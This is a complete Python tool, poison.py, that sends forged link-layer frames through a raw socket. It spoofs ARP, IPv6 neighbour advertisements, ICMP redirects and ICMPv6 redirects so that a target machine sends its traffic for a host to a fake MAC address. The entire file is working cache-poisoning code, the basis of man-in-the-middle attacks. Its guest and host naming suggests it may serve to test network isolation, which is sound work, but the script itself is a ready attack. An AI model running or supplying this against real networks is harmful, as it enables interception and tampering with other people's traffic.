"""Lies on a link, told by whoever may send frames: python3 poison.py INTERFACE GUEST-MAC GUEST HOST
GUEST6 HOST6. Each says that another machine has the host's address, or knows a better way to it."""

import ipaddress
import socket
import struct
import sys

LIAR = bytes.fromhex("020000000066")
EVERYBODY = b"\xff" * 6
ARP_REQUEST, ARP_REPLY = 1, 2
ICMP_REDIRECT = 5
ICMPV6, ADVERTISEMENT, REDIRECT = 58, 136, 137
SOLICITED_OVERRIDE, OVERRIDE = 0x60000000, 0x20000000


def checksum(data):
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return struct.pack("!H", 0xffff ^ total)


def arp(operation, to, sender, target):
    """`sender` is said to be at the liar's MAC address."""
    return (to + LIAR + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation)
            + LIAR + sender.packed + to + target.packed)


def ipv4(to, protocol, src, dst, payload):
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0)
    header += src.packed + dst.packed
    return (to + LIAR + b"\x08\x00" + header[:10] + checksum(header) + header[12:] + payload)


def icmp_redirect(to, guest, host, gateway):
    """As if the host sent it: the way to anybody is by `gateway`."""
    quoted = ipv4(to, socket.IPPROTO_TCP, guest, ipaddress.ip_address("10.9.9.2"), bytes(20))[14:]
    icmp = struct.pack("!BBH", ICMP_REDIRECT, 1, 0) + gateway.packed + quoted[:28]
    icmp = icmp[:2] + checksum(icmp) + icmp[4:]
    return ipv4(to, socket.IPPROTO_ICMP, host, guest, icmp)


def icmpv6(to, src, dst, message):
    pseudo = src.packed + dst.packed + struct.pack("!II", len(message), ICMPV6)
    message = message[:2] + checksum(pseudo + message) + message[4:]
    return (to + LIAR + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(message), ICMPV6, 255)
            + src.packed + dst.packed + message)


def advertisement(to, guest, host, flags):
    option = b"\x02\x01" + LIAR
    return icmpv6(to, host, guest, struct.pack("!BBHI", ADVERTISEMENT, 0, 0, flags) + host.packed
                  + option)


def redirect(to, guest, host):
    liar = ipaddress.ip_address("fe80::66")
    return icmpv6(to, host, guest, struct.pack("!BBHI", REDIRECT, 0, 0, 0) + liar.packed
                  + host.packed + b"\x02\x01" + LIAR)


def lies(mac, guest, host, guest6, host6):
    """All of them, as frames."""
    for to in (mac, EVERYBODY):
        for operation in (ARP_REQUEST, ARP_REPLY):
            yield arp(operation, to, host, guest)
            yield arp(operation, to, host, host)
            # And that the guest itself is somebody else.
            yield arp(operation, to, guest, guest)
    for flags in (0, OVERRIDE, SOLICITED_OVERRIDE):
        yield advertisement(mac, guest6, host6, flags)
    yield icmp_redirect(mac, guest, host, ipaddress.ip_address("10.9.0.66"))
    yield redirect(mac, guest6, host6)


def main():
    interface, mac, *addresses = sys.argv[1:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((interface, 0))
        for frame in lies(bytes.fromhex(mac.replace(":", "")),
                          *map(ipaddress.ip_address, addresses)):
            link.send(frame)


if __name__ == "__main__":
    main()
